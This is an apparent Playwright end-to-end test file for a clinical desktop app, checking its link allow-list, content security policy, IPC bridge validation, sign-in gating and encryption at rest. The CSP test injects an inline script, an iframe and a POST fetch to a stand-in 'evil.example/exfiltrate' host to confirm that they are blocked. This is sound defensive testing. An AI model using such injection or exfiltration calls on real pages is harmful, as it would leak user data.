import fs from 'node:fs';
import path from 'node:path';
import { expect, test } from '../support/fixtures';
import { mainNav, screenshot } from '../support/workflow';

test.describe('navigation and content security', () => {
  test('an external link goes to the system browser after the allow-list check and never replaces the app', async ({ app }) => {
    const { page, core } = app;
    await app.openAs('dana', ['clinician']);
    const appUrl = page.url();
    await mainNav(page).getByRole('button', { name: 'About' }).click();
    let popups = 0;
    page.on('popup', () => {
      popups += 1;
    });
    await page.getByRole('link', { name: /FindTreatment\.gov/ }).click();
    await expect.poll(() => core.openedLinks).toEqual(['https://findtreatment.gov/']);
    expect(page.url()).toBe(appUrl);
    expect(popups).toBe(0);
    await expect(page.getByRole('heading', { name: 'About Stepwise' })).toBeVisible();
    await screenshot(page, '14-about');
  });

  test('a link outside the allow-list is refused by the main-process check', async ({ app }) => {
    const { page, core } = app;
    await app.open();
    const result = await page.evaluate(() => window.stepwise?.invoke('app.openExternal', { url: 'https://evil.example/login' }));
    expect(result).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    expect(core.openedLinks).toEqual([]);
  });

  // eval is not probed here: code run through page.evaluate is exempt from CSP; the unit test checks the policy has no 'unsafe-eval'.
  test('the production CSP blocks inline script and remote content', async ({ app }) => {
    const { page } = app;
    await app.open();
    await expect(page.getByRole('heading', { name: 'Welcome to Stepwise' })).toBeVisible();
    type Probe = Window & { __violations?: string[]; __inlineRan?: boolean };
    const fetchFailed = await page.evaluate(async () => {
      const probe = window as Probe;
      probe.__violations = [];
      document.addEventListener('securitypolicyviolation', (event) => probe.__violations?.push(event.effectiveDirective));
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true';
      document.body.append(script);
      const image = document.createElement('img');
      image.src = 'https://tracker.example/pixel.png';
      document.body.append(image);
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
      try {
        await fetch('https://evil.example/exfiltrate', { method: 'POST', body: 'x' });
        return false;
      } catch {
        return true;
      }
    });
    expect(fetchFailed).toBe(true);
    // Violation reports arrive asynchronously; wait for all four rather than for a fixed time.
    await expect
      .poll(() => page.evaluate(() => (window as Probe).__violations))
      .toEqual(expect.arrayContaining(['script-src-elem', 'img-src', 'frame-src', 'connect-src']));
    expect(await page.evaluate(() => (window as Probe).__inlineRan === true)).toBe(false);
    expect(app.blockedRequests).toEqual([]);
  });

  test('the bridge exposes exactly one function and rejects unknown channels and bad payloads', async ({ app }) => {
    const { page, core } = app;
    await app.openAs('dana', ['clinician']);
    const shape = await page.evaluate(() => ({
      keys: Object.keys(window.stepwise ?? {}),
      hasRequire: typeof (window as unknown as { require?: unknown }).require,
      hasProcess: typeof (window as unknown as { process?: unknown }).process,
    }));
    expect(shape).toEqual({ keys: ['invoke'], hasRequire: 'undefined', hasProcess: 'undefined' });
    const unknown = await page.evaluate(() => window.stepwise?.invoke('cases.dropAll', {}));
    expect(unknown).toMatchObject({ ok: false, error: { code: 'unknown_channel' } });
    const invalid = await page.evaluate(() => window.stepwise?.invoke('cases.create', { mrn: '', fullName: 3 }));
    expect(invalid).toMatchObject({
      ok: false,
      error: { code: 'invalid_input', fields: expect.arrayContaining([expect.objectContaining({ path: 'mrn' })]) },
    });
    const extraKey = await page.evaluate(() =>
      window.stepwise?.invoke('cases.create', { mrn: 'A-1', fullName: 'Jane Doe', dateOfBirth: '1980-01-01', level: 'inpatient' }),
    );
    expect(extraKey).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
    expect(core.database.sqlite.prepare('SELECT count(*) FROM cases').pluck().get()).toBe(0);
  });

  test('signed out, the bridge refuses every channel but the public ones before reading the payload', async ({ app }) => {
    const { page, core } = app;
    await core.addUser('dana', ['clinician']);
    await app.open();
    await expect(page.getByRole('heading', { name: 'Sign in', level: 1 })).toBeVisible();
    const refused = await page.evaluate(() =>
      window.stepwise?.invoke('cases.create', { mrn: 'A-1', fullName: 'Jane Doe', dateOfBirth: '1980-01-01' }),
    );
    expect(refused).toMatchObject({ ok: false, error: { code: 'unauthenticated' } });
    const status = await page.evaluate(() => window.stepwise?.invoke('auth.status', {}));
    expect(status).toEqual({ ok: true, value: { setupRequired: false, user: null, autoLockMinutes: null } });
    expect(core.database.sqlite.prepare('SELECT count(*) FROM cases').pluck().get()).toBe(0);
  });
});

test.describe('encryption at rest', () => {
  test.use({ fileLog: true });

  test('after records are made in the app, no file in the data folder holds the patient name or MRN', async ({ app }) => {
    const { page } = app;
    await app.openAs('dana', ['clinician']);
    await page.getByRole('button', { name: /New case/ }).click();
    const dialog = page.getByRole('dialog', { name: 'New case' });
    await dialog.getByLabel('MRN').fill('ZQ-90417');
    await dialog.getByLabel('Full name').fill('Quintessa Marlowe');
    await dialog.getByLabel('Date of birth').fill('1984-02-03');
    await dialog.getByRole('button', { name: 'Create case' }).click();
    await expect(page.getByRole('heading', { name: 'Quintessa Marlowe' })).toBeVisible();
    const files: string[] = [];
    const walk = (folder: string): void => {
      for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
        const full = path.join(folder, entry.name);
        if (entry.isDirectory()) walk(full);
        else files.push(full);
      }
    };
    walk(app.dataDir);
    expect(files.some((file) => file.endsWith('stepwise.db-wal'))).toBe(true);
    // The byte check below covers the log only if the app really wrote one, where it keeps it.
    const logFile = path.join(app.dataDir, 'logs', 'stepwise.log');
    expect(app.logFile).toBe(logFile);
    expect(files).toContain(logFile);
    expect(fs.statSync(logFile).size).toBeGreaterThan(0);
    for (const file of files) {
      const bytes = fs.readFileSync(file);
      expect({ file, name: bytes.includes('Quintessa'), mrn: bytes.includes('ZQ-90417') }).toEqual({ file, name: false, mrn: false });
    }
  });
});
